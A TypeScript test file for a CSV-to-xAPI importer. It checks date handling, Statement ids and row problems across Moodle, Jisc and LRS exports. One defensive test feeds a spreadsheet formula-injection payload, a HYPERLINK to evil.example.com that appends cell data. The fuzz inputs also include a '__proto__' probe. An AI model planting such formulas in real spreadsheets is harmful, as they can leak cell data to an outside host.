import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { CsvMapping } from '../../contract/csv-mapping.ts';
import { csvMeanings } from '../../contract/csv-mapping.ts';
import { openQuestions } from '../../contract/csv/mapping-questions.ts';
import { lengthUnits } from '../../contract/csv/read-length.ts';
import { verbOfDeed } from '../../contract/deed-verbs.ts';
import type { Agent } from '../../contract/xapi/actor.ts';
import type { Statement } from '../../contract/xapi/statement.ts';
import { validateStatement } from '../../contract/xapi/validate-statement.ts';
import { csvLine } from '../../lrs/write-csv.ts';
import { aCsvMapping } from '../../testing/a-csv-mapping.ts';
import { withFile } from '../../testing/a-text-file.ts';
import { hasSharedData, sharedData, sharedDataLines } from '../../testing/shared-data.ts';
import type { Found } from '../import/found.ts';
import { ROW_CELLS } from './make-row-statement.ts';
import { describeTable, readCsv } from './read-csv.ts';
import { fingerprintOf } from './row-ids.ts';

const ana: Agent = { mbox: 'mailto:ana.ruiz@example.org' };

function describeText(octets: string | Buffer) {
  return withFile(octets, (path) => describeTable(path, { agents: [ana], zone: 'Europe/Madrid' }));
}

async function read(octets: string | Buffer, mapping: CsvMapping) {
  const found: Found[] = [];
  await withFile(octets, async (path) => {
    for await (const one of readCsv(path, mapping, { actor: ana, file: 'list.csv' })) found.push(one);
  });
  return {
    statements: found.flatMap((one) => (one.kind === 'statement' ? [JSON.parse(one.text) as Statement] : [])),
    problems: found.flatMap((one) => (one.kind === 'problem' ? [one.problem] : [])),
  };
}

async function readAsGuessed(octets: string, change: Partial<CsvMapping> = {}) {
  const { mapping } = await describeText(octets);
  return read(octets, { ...mapping, ...change });
}

describe.skipIf(!hasSharedData)('collected tables', () => {
  it('a list kept by hand: two dates in two forms, and one that cannot be', async () => {
    const table = await describeText(sharedData('csv/hand-kept-list.csv'));
    expect(openQuestions(table, table.mapping)).toEqual([]);
    const { statements, problems } = await readAsGuessed(sharedData('csv/hand-kept-list.csv'));
    expect(statements).toMatchObject([
      {
        timestamp: '2024-03-02T12:00:00+01:00',
        object: { definition: { name: { und: 'Curso de soldadura' } } },
        result: { score: { raw: 9.5, max: 10 }, duration: 'PT16H', completion: true },
      },
      { timestamp: '2024-04-15T12:00:00+02:00', result: { duration: 'PT12H' } },
    ]);
    expect(problems).toEqual([{ file: 'list.csv', line: 4, reason: 'impossible-date', detail: '2024-02-30' }]);
  });

  it('a Spanish completion report of Moodle: the learner’s row, or whose it is said to be', async () => {
    const text = sharedData('csv/moodle-course-completion-es.csv');
    const { mapping } = await describeText(text);
    expect((await read(text, mapping)).statements).toMatchObject([
      { verb: verbOfDeed.passed, timestamp: '2025-01-14T16:41:00+01:00', result: { success: true, completion: true } },
    ]);
    const of = (value: string) => read(text, { ...mapping, person: { column: 'Nombre', value } });
    expect(await of('José Ñúñez; hijo')).toEqual({ statements: [], problems: [] });
    expect((await of('O\'Brien, "Bob"')).statements).toMatchObject([{ result: { success: false } }]);
  });

  it('a report with several outcomes in a row: each is a Statement of its own, and the same one however it is called', async () => {
    const text = 'Email,Knots,Knots - Date,Sails,Sails - Date\na@b.org,Completed,2025-03-03,Completed,2025-03-04\n';
    const { mapping } = await describeText(text);
    const idOf = async (column: string, fixedTitle: string) => {
      const status = { column, meanings: { Completed: 'completed' as const } };
      const when = `${column} - Date`;
      const { statements } = await read(text, { ...mapping, person: null, title: null, fixedTitle, status, when });
      return statements[0]?.id;
    };
    expect(await idOf('Knots', 'Knots')).toBe(await idOf('Knots', 'Knots and bends'));
    expect(await idOf('Knots', 'Knots')).not.toBe(await idOf('Sails', 'Sails'));
  });

  it('quizzes of eight people, with the strange offsets of a spreadsheet', async () => {
    const text = sharedData('csv/jisc-quiz_completed.tsv');
    const table = await describeText(text);
    expect(openQuestions(table, table.mapping)).toEqual(['person']);
    expect(table.values[0]).toHaveLength(8);
    expect((await read(text, table.mapping)).statements).toEqual([]);
    const person = { column: 'USERNAME', value: 'STUDENT_12348' };
    expect((await read(text, { ...table.mapping, person })).statements).toMatchObject([
      {
        timestamp: '2017-10-24T23:55:00+01:03',
        object: { id: 'http://moodle.data.alpha.jisc.ac.uk/mod/quiz/view.php?id=13' },
        result: { score: { scaled: 0.4, raw: 40, min: 0, max: 100 } },
      },
    ]);
    expect(JSON.stringify(await read(text, { ...table.mapping, person: null }))).not.toContain('10.3.3.');
  });

  it('attendance: who was not there did not attend', async () => {
    const text = sharedData('csv/jisc-attendance.tsv');
    const { statements, problems } = await readAsGuessed(text, { person: null });
    const attended = text.split('\n').filter((line) => line.split('\t')[10] === '1');
    expect(statements.length + problems.length).toBe(attended.length);
    expect(statements.every(({ verb }) => verb.id === verbOfDeed.attended.id)).toBe(true);
    expect(new Set(problems.map(({ reason }) => reason))).toEqual(new Set(['impossible-date']));
  });

  it('formulas are texts', async () => {
    const text = sharedData('hostile/formulas.csv');
    const { statements, problems } = await readAsGuessed(text);
    expect(problems).toEqual([]);
    expect(statements).toHaveLength(4);
    expect(statements[0]).toMatchObject({
      object: { definition: { name: { und: '=HYPERLINK("http://evil.example.com/?x="&A1,"click")' } } },
      result: { extensions: { [ROW_CELLS]: { Score: '=1+1' } } },
    });
    expect(statements[2]).toMatchObject({ result: { score: { raw: 80 } } });
  });

  const golf = hasSharedData
    ? sharedDataLines('statements/golf-prototype/golf-one-attempt.ndjson').map((line) => JSON.parse(line) as Statement)
    : [];

  it('Learning Locker: the very same Statements, nothing asked', async () => {
    const text = sharedData('csv/learning-locker-default-export.csv');
    const table = await describeText(text);
    expect(table).toMatchObject({ known: 'learning-locker', rowCount: 35 });
    expect(openQuestions(table, table.mapping)).toEqual([]);
    const { statements, problems } = await read(text, table.mapping);
    expect(problems).toEqual([]);
    const theirs = { stored: expect.any(String), version: '1.0.0', authority: expect.anything() };
    expect(statements.toSorted(byId)).toEqual(golf.toSorted(byId).map((one) => ({ ...one, ...theirs })));
  });

  it('SQL LRS: the same ids, as much as its columns have', async () => {
    const text = sharedData('csv/sql-lrs-export.csv');
    const table = await describeText(text);
    expect(table).toMatchObject({ known: 'sql-lrs', rowCount: 35 });
    const { statements, problems } = await read(text, table.mapping);
    expect(problems).toEqual([]);
    expect(statements.toSorted(byId).map(({ id }) => id)).toEqual(golf.toSorted(byId).map(({ id }) => id));
    for (const statement of statements) {
      expect(validateStatement(statement, '1.0.3')).toEqual([]);
      const original = golf.find(({ id }) => id === statement.id);
      expect({ ...original, stored: statement.stored }).toMatchObject(statement);
    }
  });
});

function byId(one: Statement, other: Statement): number {
  return (one.id ?? '') < (other.id ?? '') ? -1 : 1;
}

describe('ids', () => {
  const text = 'Title,Date,Score\na,2024-03-02,5\na,2024-03-02,5\nb,2024-03-02,5\n';
  const idsOf = async (octets: string | Buffer, some: Partial<CsvMapping> = {}) =>
    (await read(octets, aCsvMapping(some))).statements.map(({ id }) => id);

  it('are the same for the same rows, however they are understood and written', async () => {
    const ids = await idsOf(text);
    expect(new Set(ids).size).toBe(3);
    expect(await idsOf(text, { score: 'Score', title: null, fixedTitle: 'x', zone: 'Asia/Tokyo' })).toEqual(ids);
    expect(await idsOf(Buffer.from(`\uFEFF${text.replaceAll(',', '\t').replaceAll('\n', '\r\n')}`, 'utf16le'))).toEqual(
      ids,
    );
    expect(await idsOf(text.replace('\n', '\nnew,2024-03-01,1\n'))).toEqual(expect.arrayContaining(ids));
  });

  it('are others for a table with other columns', async () => {
    expect(fingerprintOf(['Title', 'Date'])).toBe(fingerprintOf(['Title', 'Date']));
    expect(fingerprintOf(['Title', 'Date'])).not.toBe(fingerprintOf(['Title', 'When']));
    expect(await idsOf(text.replace('Score', 'Points'))).not.toEqual(await idsOf(text));
  });
});

it('makes one experience of all that has the same title', async () => {
  const status = { column: 'How', meanings: { ok: 'passed', ko: 'failed', '…': 'begun' } } as const;
  const text = 'Title,Date,How\nWelding,2024-03-01,…\nwelding ,2024-03-02,ko\nWelding,2024-03-03,ok\n';
  const { statements } = await read(text, aCsvMapping({ status }));
  expect(new Set(statements.map(({ object }) => 'id' in object && object.id)).size).toBe(1);
  expect(statements.map(({ verb }) => verb.id.split('/').at(-1))).toEqual(['initialized', 'failed', 'passed']);
});

it('names rows that do not fit, and goes on', async () => {
  const { statements, problems } = await read('Title,Date\na,2024-03-02,x\nb,2024-03-02\n', aCsvMapping());
  expect(statements).toHaveLength(1);
  expect(problems).toMatchObject([{ line: 2, reason: 'uneven-row', detail: '3 cells under 2 columns' }]);
});

const columns = ['Title', 'Date', 'Score', 'Time', 'Text', 'How'];
const cell = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 12 }),
  fc.constantFrom(
    '9,5',
    '-1',
    '105 %',
    '8/0',
    '1:30',
    '2024-03-02',
    '15/04/2024 16:41',
    '2024-02-30',
    'urn:x:1',
    '45366',
    '1e400',
    '__proto__',
  ),
);
const column = fc.option(fc.constantFrom(...columns));
const mapping: fc.Arbitrary<CsvMapping> = fc.record({
  person: fc.constant(null),
  title: column,
  fixedTitle: fc.string(),
  activity: column,
  when: fc.constantFrom(...columns),
  dayFirst: fc.boolean(),
  zone: fc.constantFrom('Europe/Madrid', 'America/St_Johns', 'nowhere', ''),
  verb: fc.constantFrom(...Object.values(verbOfDeed).map(({ id }) => id)),
  status: fc.option(
    fc.record({
      column: fc.constantFrom(...columns),
      meanings: fc.dictionary(fc.constantFrom('', '9,5', '-1', '1:30'), fc.constantFrom(...csvMeanings)),
    }),
  ),
  score: column,
  scoreMin: fc.option(fc.double({ noNaN: true, noDefaultInfinity: true })),
  scoreMax: fc.option(fc.double({ noNaN: true, noDefaultInfinity: true })),
  duration: fc.option(fc.record({ column: fc.constantFrom(...columns), unit: fc.constantFrom(...lengthUnits) })),
  description: column,
  comment: column,
  kept: fc.subarray(columns),
});

it('makes valid Statements of any rows by any mapping, and reads any of them as it is guessed', async () => {
  const row = fc.tuple(cell, fc.oneof(cell, fc.constant('2024-03-02')), cell, cell, cell, cell);
  await fc.assert(
    fc.asyncProperty(fc.array(row, { minLength: 1, maxLength: 6 }), mapping, async (rows, chosen) => {
      const text = [columns, ...rows].map((cells) => csvLine(cells)).join('');
      const guessed = await describeText(text);
      for (const one of [chosen, guessed.mapping]) {
        const { statements, problems } = await read(text, one);
        expect(statements.length + problems.length).toBeLessThanOrEqual(guessed.rowCount);
        for (const statement of statements) {
          expect(validateStatement(statement, '1.0.3')).toEqual([]);
          expect(validateStatement(statement, '2.0.0')).toEqual([]);
        }
      }
    }),
    { numRuns: 80 },
  );
});
